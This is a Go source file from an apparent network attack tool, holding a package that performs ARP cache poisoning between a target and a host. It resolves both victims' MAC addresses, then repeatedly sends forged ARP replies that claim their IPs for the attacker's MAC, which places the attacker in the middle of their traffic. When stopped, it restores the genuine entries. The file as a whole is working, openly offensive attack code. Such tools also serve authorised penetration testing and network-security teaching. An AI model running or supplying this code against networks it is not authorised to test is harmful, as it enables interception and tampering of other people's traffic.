// internal/spoof/spoof.go
package spoof

import (
	"context"
	"time"

	"github.com/vxoid/cursedv/internal/addr"
	"github.com/vxoid/cursedv/internal/arpchan"
	"github.com/vxoid/cursedv/internal/errs"
	"github.com/vxoid/cursedv/internal/resolve"
)

// Params describes the two victims. Nil MACs are resolved with a who-has
// before the attack starts; a nil AttackerMAC means the channel's own MAC.
type Params struct {
	TargetIP    addr.IPv4
	HostIP      addr.IPv4
	TargetMAC   *addr.MAC
	HostMAC     *addr.MAC
	AttackerMAC *addr.MAC

	// Wait is the pause between two poisoning rounds.
	Wait time.Duration
	// Timeout bounds each MAC resolution; nil waits forever.
	Timeout *time.Duration

	// Notice reports a default being applied; Logf reports progress.
	Notice func(format string, args ...any)
	Logf   func(format string, args ...any)
	// Started, if set, is called once both MACs are known, right before
	// the first poisoning round.
	Started func()
}

// Run poisons the ARP caches of both victims until ctx is done, then sends
// them their genuine addresses back. Both restoring replies are always sent;
// the first failure among them is returned. When ctx is done before both MACs
// are resolved nothing is poisoned and Run returns nil. ch is not closed.
func Run(ctx context.Context, ch arpchan.Channel, p Params) error {
	logf, notice := p.Logf, p.Notice
	if logf == nil {
		logf = func(string, ...any) {}
	}
	if notice == nil {
		notice = logf
	}

	attacker := ch.OwnMAC()
	if p.AttackerMAC != nil {
		attacker = *p.AttackerMAC
	} else {
		notice("Since you didn't specify --amac option we will use interface mac instead (%s)", attacker)
	}

	targetMAC, err := resolveMAC(ctx, ch, p.TargetMAC, p.TargetIP, p.Timeout, "--tmac", notice, logf)
	if err != nil {
		return resolveFailed(ctx, err, logf)
	}
	hostMAC, err := resolveMAC(ctx, ch, p.HostMAC, p.HostIP, p.Timeout, "--smac", notice, logf)
	if err != nil {
		return resolveFailed(ctx, err, logf)
	}
	logf("Poisoning %s (%s) <-> %s (%s) as %s", p.TargetIP, targetMAC, p.HostIP, hostMAC, attacker)

	stop := make(chan struct{})
	loopErr := make(chan error, 1)
	if p.Started != nil {
		p.Started()
	}
	go func() {
		loopErr <- poison(ch, stop, attacker, p.HostIP, hostMAC, p.TargetIP, targetMAC, p.Wait)
	}()

	<-ctx.Done()
	close(stop)
	joinErr := <-loopErr

	logf("Restoring arp caches of %s and %s", p.TargetIP, p.HostIP)
	first := resolve.IsAt(ch, hostMAC, p.HostIP, targetMAC, p.TargetIP)
	second := resolve.IsAt(ch, targetMAC, p.TargetIP, hostMAC, p.HostIP)

	switch {
	case joinErr != nil:
		return joinErr
	case first != nil:
		return first
	default:
		return second
	}
}

// resolveFailed turns a resolution aborted by ctx into a clean exit.
func resolveFailed(ctx context.Context, err error, logf func(string, ...any)) error {
	if ctx.Err() != nil {
		logf("Canceled before the attack started")
		return nil
	}
	return err
}

func resolveMAC(ctx context.Context, ch arpchan.Channel, known *addr.MAC, ip addr.IPv4, timeout *time.Duration, flag string, notice, logf func(string, ...any)) (addr.MAC, error) {
	if known != nil {
		return *known, nil
	}
	notice("Since you didn't specify %s option we will use arp who has request to get it", flag)
	resp, err := resolve.WhoHasContext(ctx, ch, ip, timeout)
	if err != nil {
		return addr.MAC{}, err
	}
	logf("%s is at %s", ip, resp.MAC)
	return resp.MAC, nil
}

// poison runs until stop is closed. Failed sends are retried on the next round.
func poison(ch arpchan.Channel, stop <-chan struct{}, attacker addr.MAC, hostIP addr.IPv4, hostMAC addr.MAC, targetIP addr.IPv4, targetMAC addr.MAC, wait time.Duration) (err error) {
	defer func() {
		if r := recover(); r != nil {
			err = errs.ThreadJoin(0, r)
		}
	}()

	for {
		select {
		case <-stop:
			return nil
		default:
		}

		_ = resolve.IsAt(ch, attacker, hostIP, targetMAC, targetIP)
		_ = resolve.IsAt(ch, attacker, targetIP, hostMAC, hostIP)

		if wait > 0 {
			time.Sleep(wait)
		}
	}
}
